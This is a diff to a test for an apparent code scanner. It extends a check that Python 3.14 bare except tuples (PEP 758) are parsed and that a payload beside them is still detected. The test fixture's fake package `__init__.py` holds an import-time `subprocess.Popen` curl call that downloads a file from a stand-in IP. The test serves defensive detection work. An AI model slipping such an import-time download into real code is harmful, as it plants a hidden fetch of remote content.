@@ -59,8 +59,9 @@ def test_a_file_broken_some_other_way_stays_unread_high(tmp_path):
 
 
 def test_python_3_14_bare_except_tuples_are_read_and_analysed(tmp_path):
-    """``except ValueError, TypeError:`` is valid from Python 3.14 (PEP 758): the file is
-    analysed, not called unread, and a payload beside it is found by the analyser."""
+    """``except ValueError, TypeError:`` (also with a parenthesized first part) is valid from
+    Python 3.14 (PEP 758): the file is analysed, not called unread, and a payload beside it is
+    found by the analyser."""
     body = (
         b"import subprocess\n"
         b"def load(text):\n"
@@ -68,6 +69,8 @@ def test_python_3_14_bare_except_tuples_are_read_and_analysed(tmp_path):
         b"        return int(text)\n"
         b"    except ValueError, TypeError:\n"
         b"        return None\n"
+        b"    except (KeyError, IndexError), LookupError:\n"
+        b"        return 0\n"
         b"subprocess.Popen(['curl', '-o', '/tmp/x', 'http://192.0.2.7/x'])\n"
     )
     res = _scan(tmp_path, {"legacy/__init__.py": body})
